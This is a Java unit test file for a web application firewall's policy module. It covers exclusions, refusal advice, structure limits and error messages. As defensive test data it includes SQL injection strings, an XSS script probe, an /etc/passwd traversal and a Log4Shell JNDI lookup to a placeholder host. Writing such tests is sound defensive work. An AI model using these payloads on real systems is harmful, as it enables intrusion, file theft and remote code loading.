package dev.portcullis.waf.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.gateway.policy.LoadedPolicy;
import dev.portcullis.gateway.policy.Policy;
import dev.portcullis.gateway.policy.PolicyErrors;
import dev.portcullis.gateway.policy.shape.PolicyError;
import dev.portcullis.gateway.testkit.FakeExchange;
import dev.portcullis.gateway.testkit.FakeHost;
import dev.portcullis.gateway.testkit.FakeRequest;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** With the rules that come with the module: what an exclusion means, what a refusal proposes, and limits of structures. */
class TypedTargetTest {
    private static final String ATTACK = "' or 'a'='a' --";
    private static final Pattern ADVICE = Pattern.compile("to let it pass, exclude: (\\[.*\\])");

    @TempDir
    Path folder;

    private Path policy(String waf) {
        try {
            return Files.writeString(folder.resolve("p.yaml"), """
                    apiVersion: portcullis.dev/v1
                    kind: GatewayPolicy
                    metadata: {name: p, version: "1"}
                    spec:
                      waf:
                        rules: [builtin]
                        %s
                      routes:
                        - {id: api, match: {methods: [GET, POST], path: /api}, authenticate: none}
                        - {id: other, match: {methods: [GET, POST], path: /other}, authenticate: none}
                    """.formatted(waf));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private FakeExchange send(String waf, FakeRequest request) {
        try (LoadedPolicy policy = Policy.load(policy(waf))) {
            return FakeHost.of(policy.gateway()).send(request);
        } catch (PolicyErrors e) {
            throw new AssertionError(e);
        }
    }

    private static FakeRequest typed(String type, String body) {
        return FakeRequest.post("/api", body).header("Content-Type", type);
    }

    private static FakeRequest json(String body) {
        return typed("application/json", body);
    }

    static Stream<Arguments> kinds() {
        String query = "{\"query\": \"{ user(name: \\\"" + ATTACK + "\\\") { id } }\"}";
        return Stream.of(
                Arguments.of("parameter: q", FakeRequest.get("/api?q=%27%20or%20%27a%27=%27a%27%20--"), "parameter: p"),
                Arguments.of("form: q", typed("application/x-www-form-urlencoded", "q=" + ATTACK), "form: p"),
                Arguments.of(
                        "json: \"$.a[*].b\"", json("{\"a\": [{\"b\": \"" + ATTACK + "\"}]}"), "json: \"$.a[*].c\""),
                Arguments.of("cookie: c", FakeRequest.get("/api").header("Cookie", "c=" + ATTACK), "cookie: d"),
                Arguments.of(
                        "header: Referer", FakeRequest.get("/api").header("Referer", ATTACK), "header: User-Agent"),
                Arguments.of("xml: text", typed("application/xml", "<a>" + ATTACK + "</a>"), "xml: attributes"),
                Arguments.of("xml: attributes", typed("application/xml", "<a b=\"" + ATTACK + "\"/>"), "xml: text"),
                Arguments.of(
                        "target: \"REQUEST_COOKIES:c\"",
                        FakeRequest.get("/api").header("Cookie", "c=" + ATTACK),
                        "target: \"REQUEST_COOKIES:d\""),
                Arguments.of(
                        "graphql: user.name}, {tag: attack-sqli, graphql: document", json(query), "graphql: document"),
                Arguments.of(
                        "graphql: \"*.name\"}, {tag: attack-sqli, graphql: document",
                        json(query),
                        "graphql: user.mail"));
    }

    @ParameterizedTest
    @MethodSource("kinds")
    void passesOverWhatAnExclusionNamesAndNothingElse(String means, FakeRequest attack, String meansElse) {
        assertThat(send("", attack).response().status()).isEqualTo(403);
        assertThat(send("exclude: [{tag: attack-sqli, " + means + "}]", attack)
                        .response()
                        .status())
                .isEqualTo(200);
        assertThat(send("exclude: [{tag: attack-sqli, " + meansElse + "}]", attack)
                        .response()
                        .status())
                .isEqualTo(403);
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                Arguments.of(FakeRequest.get("/api?note=%27%20or%20%27a%27=%27a%27%20--")),
                Arguments.of(json("{\"a\": {\"note\": \"<script>alert(1)</script>\"}}")),
                Arguments.of(FakeRequest.get("/api").header("Cookie", "c=../../../etc/passwd")),
                Arguments.of(typed("application/xml", "<a>${jndi:ldap://x.example/a}</a>")));
    }

    @ParameterizedTest
    @MethodSource("refused")
    void writesWhatToPutIntoThePolicyForTheRequestToPass(FakeRequest request) {
        FakeExchange exchange = send("", request);
        assertThat(exchange.response().status()).isEqualTo(403);
        Matcher advice = ADVICE.matcher(exchange.rejection().logDetail());
        assertThat(advice.find()).as(exchange.rejection().logDetail()).isTrue();
        String excluded = "exclude: " + advice.group(1);

        assertThat(send(excluded, request).response().status()).as(excluded).isEqualTo(200);

        assertThat(send(excluded, FakeRequest.get("/api?other=%27%20or%20%27a%27=%27a%27%20--"))
                        .response()
                        .status())
                .isEqualTo(403);
        assertThat(send(excluded, FakeRequest.get("/other?note=%27%20or%20%27a%27=%27a%27%20--"))
                        .response()
                        .status())
                .isEqualTo(403);
    }

    static Stream<Arguments> structures() {
        String aliases = "{ a: f b: f c: f }";
        return Stream.of(
                Arguments.of("keys: 3", json("{\"a\": {}, \"b\": {}, \"c\": {}, \"d\": {}}"), "waf.keys"),
                Arguments.of("keys: 3", typed("application/xml", "<a><b c=\"1\" d=\"2\"/></a>"), "waf.keys"),
                Arguments.of("depth: 3", json("[[[[1]]]]"), "waf.depth"),
                Arguments.of("depth: 3", typed("application/xml", "<a><b><c><d/></c></b></a>"), "waf.depth"),
                Arguments.of("graphqlDepth: 2", json("{\"query\": \"{ a { b { c } } }\"}"), "waf.graphql_depth"),
                Arguments.of("graphqlDepth: 2", typed("application/graphql", "{ a { b { c } } }"), "waf.graphql_depth"),
                Arguments.of(
                        "graphqlDepth: 2",
                        FakeRequest.get("/api?query=%7B%20a%20%7B%20b%20%7B%20c%20%7D%20%7D%20%7D"),
                        "waf.graphql_depth"),
                Arguments.of("aliases: 2", json("{\"query\": \"" + aliases + "\"}"), "waf.aliases"),
                Arguments.of(
                        "aliases: 2",
                        json(
                                "[{\"query\": \"{a}\"}, {\"query\": \"{a}\"}, {\"query\": \"{a}\"}, {\"query\": \"{a}\"}]"),
                        "waf.aliases"));
    }

    @ParameterizedTest
    @MethodSource("structures")
    void boundsTheStructureOfDocuments(String budget, FakeRequest request, String code) {
        FakeExchange refused = send("budget: {" + budget + "}", request);

        assertThat(refused.code()).isEqualTo(code);
        assertThat(refused.response().status()).isEqualTo(413);
        assertThat(send("", request).response().status()).isEqualTo(200);
    }

    private List<PolicyError> errors(String waf) {
        try {
            Policy.load(policy(waf)).close();
            return List.of();
        } catch (PolicyErrors e) {
            return e.errors();
        }
    }

    static Stream<Arguments> mistakes() {
        return Stream.of(
                Arguments.of("{rule: 4402100}", "no rule is meant by rule 4402100; did you mean \"440210\"?"),
                Arguments.of(
                        "{tag: atack-sqli}", "no rule is meant by tag \"atack-sqli\"; did you mean \"attack-sqli\"?"),
                Arguments.of("{rule: 440210, target: \"ARG:q\"}", "did you mean \"ARGS\"?"),
                Arguments.of("{rule: 440210, cookies: c}", "did you mean \"cookie\"?"),
                Arguments.of("{rule: 440210, xml: texts}", "did you mean \"text\"?"),
                Arguments.of("{rule: 440210, graphql: \"a b\"}", "createUser.input.name"),
                Arguments.of("{rule: 440210, route: apis}", "did you mean \"api\"?"),
                Arguments.of("{rule: 440114, header: Origin}", "does not look at"));
    }

    @ParameterizedTest
    @MethodSource("mistakes")
    void saysOfAMistakeWhereItIsAndWhatWasMeant(String exclusion, String message) {
        assertThat(errors("exclude: [" + exclusion + "]")).singleElement().satisfies(error -> {
            assertThat(error.toString()).contains(message);
            assertThat(error.position().line()).isEqualTo(7);
        });
    }

    @Test
    void seesAnAttackInsideOfAGraphQlDocument() {
        assertThat(send("", typed("application/graphql", "{ user(id: \"1 union select password from users\") { id } }"))
                        .code())
                .isEqualTo("waf.score");
        assertThat(send("", json("{\"query\": \"{ user(id: \\\"7\\\") { id name } }\"}"))
                        .response()
                        .status())
                .isEqualTo(200);
    }
}
